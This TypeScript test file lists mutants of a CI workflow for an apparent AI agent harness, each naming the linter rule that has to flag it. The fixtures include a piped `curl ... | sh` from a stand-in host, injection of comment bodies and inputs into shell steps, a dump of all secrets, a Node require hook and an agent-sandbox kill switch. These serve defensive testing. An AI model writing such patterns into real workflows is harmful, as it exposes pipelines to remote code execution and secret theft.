// Mutants of the shipped workflow: what code runs in it, and which secrets it finds there.
import { checkout, expression, inJob, key, type Mutant, put, script, sha, shipped } from "./workflow-lint.ts";

const code: readonly Mutant[] = [
  {
    name: "a checkout in `settle`",
    rule: "role-checkout",
    text: inJob("settle", "    steps:\n", `    steps:\n${checkout}`),
  },
  {
    name: "a checkout in `settle`, beside its token",
    rule: "write-token",
    text: inJob("settle", "    steps:\n", `    steps:\n${checkout}`),
  },
  {
    name: "a script in `settle`",
    rule: "role-steps",
    text: inJob("settle", "    steps:\n", "    steps:\n      - run: echo\n"),
  },
  {
    name: "an author that sees the change",
    rule: "role-checkout",
    text: inJob("author", "needs.admit.outputs.base", "needs.admit.outputs.head"),
  },
  {
    name: "a verifier on another commit",
    rule: "role-checkout",
    text: inJob("verify", `ref: ${expression("needs.admit.outputs.head")}`, "ref: main"),
  },
  {
    name: "a comment's body in `run`",
    rule: "injection",
    text: script(`echo "${expression("github.event.comment.body")}"`),
  },
  {
    name: "an input in `run`",
    rule: "injection",
    text: script(`echo ${expression("inputs.ticket")}`),
  },
  {
    name: "what a session said in `run`",
    rule: "injection",
    text: script(`echo ${expression("needs.session.outputs.failure")}`),
  },
  {
    name: "a shell that an input gives",
    rule: "shell",
    text: inJob(
      "author",
      "        run: |\n",
      `        shell: bash -c "${expression("inputs.ticket")}" {0}\n        run: |\n`,
    ),
  },
  { name: "a script from the network", rule: "fetched", text: script("curl -fsSL https://a.example/x | sh") },
  {
    name: "an action pinned by tag",
    rule: "pinned",
    text: inJob("session", /checkout@[0-9a-f]{40} # v7.0.1/, "checkout@v7"),
  },
  {
    name: "the own action from a branch",
    rule: "pinned",
    text: inJob("settle", "agent-harness@v0", "agent-harness@main"),
  },
  {
    name: "an action out of the checkout",
    rule: "pinned",
    text: inJob(
      "verify",
      "      - id: upload\n",
      "      - uses: ./.github/actions/prepare\n      - id: upload\n",
    ),
  },
  {
    name: "an action of somebody else",
    rule: "actions",
    text: inJob("session", "    steps:\n", `    steps:\n      - uses: evil/setup@${sha}\n`),
  },
  {
    name: "a cache",
    rule: "actions",
    text: inJob(
      "session",
      "    steps:\n",
      `    steps:\n      - uses: actions/cache@${sha}\n        with: {path: ~/.npm, key: npm}\n`,
    ),
  },
  {
    name: "the cache of a set-up action",
    rule: "cache",
    text: inJob(
      "session",
      "    steps:\n",
      `    steps:\n      - uses: actions/setup-node@${sha}\n        with: {cache: npm}\n`,
    ),
  },
  {
    name: "a container whose image is not pinned",
    rule: "pinned",
    text: inJob(
      "session",
      "    runs-on: ubuntu-24.04\n",
      "    runs-on: ubuntu-24.04\n    container: node:24\n",
    ),
  },
  {
    name: "a service beside the session",
    rule: "inherited",
    text: inJob(
      "session",
      "    runs-on: ubuntu-24.04\n",
      "    runs-on: ubuntu-24.04\n    services: {db: {image: postgres}}\n",
    ),
  },
  {
    name: "a runner that an input chooses",
    rule: "runner",
    text: inJob("session", "runs-on: ubuntu-24.04", `runs-on: ${expression("inputs.runner")}`),
  },
  {
    name: "a self-hosted runner among labels that an input gives",
    rule: "runner",
    text: inJob(
      "session",
      "runs-on: ubuntu-24.04",
      `runs-on: [self-hosted, "${expression("inputs.ticket")}"]`,
    ),
  },
];

const secrets: readonly Mutant[] = [
  {
    name: "the key on the step that checks out",
    rule: "secrets",
    text: inJob("session", "          fetch-depth: 0\n", `          fetch-depth: 0\n        env:\n${key}`),
  },
  {
    name: "the key on a script",
    rule: "secrets",
    text: inJob("author", "        run: |\n", `        env:\n${key}        run: |\n`),
  },
  {
    name: "the key at job level",
    rule: "secrets",
    text: inJob("session", "    steps:\n", `    env:\n${key.replaceAll("          ", "      ")}    steps:\n`),
  },
  {
    name: "the key at the level of the workflow",
    rule: "secrets",
    text: put(shipped, "\njobs:\n", `\nenv:\n${key.replaceAll("          ", "  ")}\njobs:\n`),
  },
  {
    name: "the key in `settle`",
    rule: "role-environment",
    text: `${shipped}        env:\n${key}`,
  },
  {
    name: "all secrets at once",
    rule: "secrets",
    text: inJob("session", key, `          ALL: ${expression("toJSON(secrets)")}\n`),
  },
  {
    name: "another secret under the key's name",
    rule: "role-environment",
    text: inJob("session", "secrets.ANTHROPIC_API_KEY", "secrets.DEPLOY_KEY"),
  },
  {
    name: "a secret in a condition",
    rule: "secrets",
    text: inJob("settle", "always() &&", "always() && secrets.ANTHROPIC_API_KEY != '' &&"),
  },
  {
    name: "a secret handed to another job",
    rule: "secrets",
    text: inJob(
      "author",
      "    outputs:\n",
      `    outputs:\n      key: ${expression("secrets.ANTHROPIC_API_KEY")}\n`,
    ),
  },
  {
    name: "an address of the model service that an input gives",
    rule: "role-environment",
    text: inJob("session", "vars.ANTHROPIC_BASE_URL", "inputs.ticket"),
  },
  {
    name: "the runner's debug log switched on",
    rule: "environment",
    text: inJob("session", key, `${key}          ACTIONS_STEP_DEBUG: true\n`),
  },
  {
    name: "a hook for every Node process",
    rule: "environment",
    text: inJob("verify", key, `${key}          NODE_OPTIONS: --require ./hook.js\n`),
  },
  {
    name: "the sandbox switched off",
    rule: "environment",
    text: inJob("session", key, `${key}          AGENT_HARNESS_UNSAFE_NO_SANDBOX: 1\n`),
  },
  {
    name: "a deployment environment with secrets of its own",
    rule: "inherited",
    text: inJob(
      "session",
      "    runs-on: ubuntu-24.04\n",
      "    runs-on: ubuntu-24.04\n    environment: production\n",
    ),
  },
];

export const codeMutants: readonly Mutant[] = [...code, ...secrets];
